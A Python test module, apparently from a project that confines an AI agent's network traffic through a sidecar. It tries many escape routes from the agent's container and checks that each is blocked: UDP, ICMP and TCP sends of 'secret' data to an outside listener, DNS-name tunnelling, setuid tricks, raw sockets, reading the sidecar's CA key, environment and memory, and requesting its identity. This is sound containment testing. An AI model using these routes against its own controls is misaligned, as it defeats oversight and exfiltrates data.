"""Ways around the sidecar, tried from the agent's container as its user."""
import os

from .. import config, paths
from ..acting import arrivals, curl
from ..cast import Cast
from ..net import Failed, until
from ..story import Story

# One attempt each, by the plainest means there are.
UDP = "import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto({data!r}, ({address!r}, {port}))"
# An unprivileged echo request, as ping sends it where the kernel allows it.
PING = ("import socket; s = socket.socket(socket.{family}, socket.SOCK_DGRAM, socket.{protocol}); "
        "s.sendto({data!r}, ({address!r}, 0))")
RAW = "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"
DNS_QUERY = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
             b"\x06secret\x07outside\x07example\x00\x00\x01\x00\x01")
ECHO4, ECHO6 = b"\x08\0\0\0\0\1\0\1secret", b"\x80\0\0\0\0\1\0\1secret"


def attempts(v4: str, v6: str) -> dict[str, str]:
    """Packets to the listener outside, by the name under which it would note them."""
    return {
        "udp4:443": UDP.format(family="AF_INET", data=b"\xc0quic", address=v4, port=443),
        "udp6:443": UDP.format(family="AF_INET6", data=b"\xc0quic", address=v6, port=443),
        "udp4:53": UDP.format(family="AF_INET", data=DNS_QUERY, address=v4, port=53),
        "udp6:53": UDP.format(family="AF_INET6", data=DNS_QUERY, address=v6, port=53),
        "icmp4": PING.format(family="AF_INET", protocol="IPPROTO_ICMP", data=ECHO4, address=v4),
        "icmp6": PING.format(family="AF_INET6", protocol="IPPROTO_ICMPV6", data=ECHO6, address=v6),
        "tcp4:53": f"import socket; socket.create_connection(({v4!r}, 53), 5).sendall(b'secret')",
        "tcp4:4444": f"import socket; socket.create_connection(({v4!r}, 4444), 5).sendall(b'secret')",
        "tcp6:4444": f"import socket; socket.create_connection(({v6!r}, 4444), 5).sendall(b'secret')",
    }


TITLES = {"udp4:443": "UDP 443, as QUIC", "udp6:443": "the same over IPv6",
          "udp4:53": "DNS to another resolver", "udp6:53": "DNS to another over IPv6",
          "tcp4:53": "DNS over TCP to another", "icmp4": "ICMP echo", "icmp6": "ICMPv6 echo",
          "tcp4:4444": "TCP to another port", "tcp6:4444": "TCP over IPv6"}


def play(cast: Cast, story: Story) -> None:
    story.chapter("ways around the sidecar, tried as the agent's user")
    network(cast, story)
    names(cast, story)
    the_sidecars_uid(cast, story)
    the_sidecars_secrets(cast, story)


def noted(cast: Cast, sender: str) -> list[str]:
    return [seen["what"] for seen in arrivals(cast.outside_log) if seen["from"] == sender]


def network(cast: Cast, story: Story) -> None:
    outside = cast.pods["outside"]
    tried = attempts(outside.v4, outside.v6)
    for pod in ("thief", "agent"):
        # So that an echo request needs no privilege, and fails for no other reason than ours.
        cast.pods[pod].run(0, "sysctl", "-qw", "net.ipv4.ping_group_range=0 65534")
    # The same from a pod without Writ first: what follows is worth nothing if nobody listens.
    for code in tried.values():
        cast.pods["thief"].run(config.AGENT_UID, *paths.python(), "-c", code)
    thief = cast.pods["thief"]
    all_of_it = lambda: set(noted(cast, thief.v4) + noted(cast, thief.v6)) >= set(tried)
    try:
        until("everything arrives from a pod without Writ", all_of_it, 5)
        control = "all arrive"
    except Failed:
        heard = set(noted(cast, thief.v4) + noted(cast, thief.v6))
        control = "missing: " + ", ".join(sorted(set(tried) - heard))
    story.judge("from a pod without Writ (control)", "all arrive", control)

    for code in tried.values():
        done = cast.pods["agent"].run(config.AGENT_UID, *paths.python(), "-c", code)
        story.show(f'$ python -c "{code}"', last_line(done.stderr) or "(no error)")
    answer = curl(cast, story, "--globoff", f"http://{outside.v4}:4444/")
    story.judge("HTTP to an address outside", "403 unlisted-destination", answer.summary)
    answer = curl(cast, story, "--globoff", f"http://[{outside.v6}]:4444/", show=False)
    story.judge("HTTP to an IPv6 address", "403 unlisted-destination", answer.summary)
    tool = cast.pods["tool"]
    answer = curl(cast, story, f"http://{tool.v4}:8443/v1/accounts/1/balance", show=False)
    story.judge("the target's address, not its name", "403 unlisted-destination", answer.summary)
    answer = curl(cast, story, "http://payments.bank.example:9999/", show=False)
    story.judge("another port of a listed host", "403 unlisted-destination", answer.summary)
    agent = cast.pods["agent"]
    # Packets in flight to a neighbour take no time worth waiting for; a marker from the same
    # bridge that arrives shows that whatever had left earlier is there too.
    marker = UDP.format(family="AF_INET", data=b"marker", address=outside.v4, port=443)
    heard = len(noted(cast, thief.v4))
    cast.pods["thief"].run(config.AGENT_UID, *paths.python(), "-c", marker)
    until("the marker arrives", lambda: len(noted(cast, thief.v4)) > heard, 5)
    leaked = set(noted(cast, agent.v4) + noted(cast, agent.v6))
    for what, title in TITLES.items():
        story.judge(title, "nothing arrived", "arrived" if what in leaked else "nothing arrived")


def names(cast: Cast, story: Story) -> None:
    tunnel = "c2VjcmV0LWRhdGE.tunnel.outside.example"
    done = cast.pods["agent"].run(config.AGENT_UID, "getent", "hosts", tunnel)
    story.show(f"$ getent hosts {tunnel}", done.stdout or f"(exit {done.returncode})")
    story.judge("data in a DNS name", "no such name", "no such name" if done.returncode == 2
                else f"getent exit {done.returncode} {done.stdout.strip()}")


def the_sidecars_uid(cast: Cast, story: Story) -> None:
    agent = cast.pods["agent"]
    uid = config.AGENT_SIDECAR
    done = agent.run(config.AGENT_UID, "setpriv", f"--reuid={uid}", "--clear-groups", "true")
    story.show(f"$ setpriv --reuid={uid} --clear-groups true", done.stderr)
    story.judge("becoming the sidecar's uid", "not permitted",
                "not permitted" if "not permitted" in done.stderr else done.stderr.strip() or "it worked")
    setuid = paths.STATE / "shared" / "setuid-curl"
    if not setuid.exists():
        setuid.write_bytes(open("/usr/bin/curl", "rb").read())
        os.chown(setuid, uid, uid)
        setuid.chmod(0o4755)
    done = agent.run(config.AGENT_UID, str(setuid), "-s", "-o", "/dev/null", "-w", "%{http_code}",
                     f"http://{cast.pods['outside'].v4}:4444/")
    story.show(f"$ {setuid} http://{cast.pods['outside'].v4}:4444/   (owned by {uid}, setuid)", done.stdout)
    story.judge("a setuid program of the sidecar's uid", "403", done.stdout or f"exit {done.returncode}")
    done = agent.run(config.AGENT_UID, *paths.python(), "-c", RAW)
    story.show(f'$ python -c "{RAW}"', last_line(done.stderr))
    story.judge("a raw packet socket", "PermissionError", last_line(done.stderr).split(":")[0])


def the_sidecars_secrets(cast: Cast, story: Story) -> None:
    agent, pid = cast.pods["agent"], cast.sidecars["agent"].pid
    folder = paths.STATE / "agent"
    for name, path in {
        "its record": folder / "record/log.redb",
        "its interception CA's key": next((folder / "ca").glob("*.pem")),
        "its configuration": folder / "config/sidecar.yaml",
        "its environment": f"/proc/{pid}/environ",
        "its memory": f"/proc/{pid}/mem",
    }.items():
        done = agent.run(config.AGENT_UID, "head", "-c1", str(path))
        story.show(f"$ head -c1 {path}", done.stderr or done.stdout)
        story.judge(f"reading {name}", "Permission denied",
                    "Permission denied" if "Permission denied" in done.stderr else "read")
    done = agent.run(config.AGENT_UID, "kill", "-STOP", str(pid))
    story.judge("stopping it by a signal", "not permitted",
                "not permitted" if "not permitted" in done.stderr else "it worked")
    done = agent.run(config.AGENT_UID, paths.program("writ-demo-attacker"), "--workload-api", str(cast.socket),
                     "--address", "127.0.0.1:1", "--peer", config.TOOL, "--template",
                     str(paths.STATE / "shared/captured.json"))
    story.show("asking the issuer's socket for the sidecar's identity", done.stderr)
    asked = f"no registration entry uid={config.AGENT_UID}" in paths.read_log(paths.LOGS / "issuer.log")
    story.judge("an SVID from the issuer's socket", "asked, none given",
                ("asked, " if asked else "not asked, ")
                + ("none given" if "no usable SVID" in done.stderr else f"exit {done.returncode}"))


def last_line(text: str) -> str:
    return (text.strip().splitlines() or [""])[-1]
